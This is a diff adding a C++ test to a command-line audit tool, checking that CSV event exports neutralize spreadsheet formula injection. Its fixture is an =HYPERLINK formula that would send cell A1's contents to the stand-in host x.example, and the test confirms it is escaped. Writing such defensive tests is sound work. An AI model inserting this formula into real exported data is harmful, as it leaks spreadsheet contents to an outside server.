@@ -10,6 +10,7 @@
 #include <fstream>
 #include <sstream>
 #include <string>
+#include <string_view>
 #include <vector>
 
 #include <absl/strings/ascii.h>
@@ -774,6 +775,35 @@ TEST_F(CliAuditTest, EventsCsvQuotesTheReasonAndHasOneRowPerEvent) {
                                          "--task", id, "--out", file});
   ASSERT_EQ(exported.code, 0) << exported.err;
   EXPECT_EQ(ReadFile(file), r.out);
+}
+
+TEST_F(CliAuditTest, EventsCsvNeutralizesCellsThatWouldRunAsFormulas) {
+  const std::string id = SubmittedTask(CleanAssistSpec(), &reviewer_);
+  const std::string reason =
+      "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"see the rules\")";
+  ASSERT_OK_AND_ASSIGN(v1::Task returned,
+                       Act(reviewer_, e2e::Step::kReturn, id, reason));
+  const Result r =
+      Run(auditor_, {"audit", "events", "--task", id, "--output", "csv"});
+  ASSERT_EQ(r.code, 0) << r.err;
+  const std::string file = File("formula.csv");
+  const Result exported = Run(auditor_, {"audit", "export", "--format", "csv",
+                                         "--task", id, "--out", file});
+  ASSERT_EQ(exported.code, 0) << exported.err;
+  EXPECT_EQ(ReadFile(file), r.out);
+  bool found = false;
+  for (const std::vector<std::string>& row : ParseCsv(r.out)) {
+    for (const std::string& cell : row) {
+      EXPECT_TRUE(cell.empty() || std::string_view("=+-@").find(cell[0]) ==
+                                      std::string_view::npos)
+          << cell;
+    }
+    if (row.size() > 9 && row[4] == "task.return") {
+      EXPECT_EQ(row[9], "'" + reason);
+      found = true;
+    }
+  }
+  EXPECT_TRUE(found) << r.out;
 }
 
 TEST_F(CliAuditTest, EventsFilterByTheStateEntered) {
